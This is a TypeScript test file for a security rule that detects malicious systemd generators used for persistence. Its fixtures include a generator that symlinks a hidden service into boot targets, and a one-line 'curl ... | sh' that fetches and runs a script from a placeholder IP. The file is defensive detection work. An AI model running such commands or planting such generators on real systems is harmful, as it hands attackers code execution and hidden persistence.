import systemdUnits from '../../collect/persistence/systemd';
import { testRule } from '../../../test/helpers/rule-tester';
import { collectFrom, debianSystemd, OLD, RECENT } from '../../../test/helpers/persistence';
import rule from './systemd-generator';

const sd = (build: Parameters<typeof collectFrom>[0]) => collectFrom(build, [systemdUnits]).facts;

testRule(rule, {
  valid: [{ name: 'packaged fstab generator', facts: sd((r) => debianSystemd(r)) }],
  invalid: [
    {
      name: 'hand-made generator in /etc',
      facts: sd((r) =>
        debianSystemd(r).write(
          '/etc/systemd/system-generators/netfix',
          '#!/bin/sh\nmkdir -p "$1/multi-user.target.wants"\nln -sf /usr/lib/.n/n.service "$1/multi-user.target.wants/"\n',
          { mode: 0o755, mtime: OLD },
        ),
      ),
      expect: [{ severity: 'high', path: '/etc/systemd/system-generators/netfix', user: 'root', evidence: /netfix:3: ln -sf/ }],
    },
    {
      name: 'generator that downloads and runs a script',
      facts: sd((r) =>
        debianSystemd(r).write(
          '/usr/local/lib/systemd/system-generators/upd',
          '#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh | sh >/dev/null 2>&1 &\n',
          { mode: 0o755, mtime: RECENT },
        ),
      ),
      expect: [{ severity: 'critical', path: '/usr/local/lib/systemd/system-generators/upd', title: /generator downloads a script/ }],
    },
  ],
});
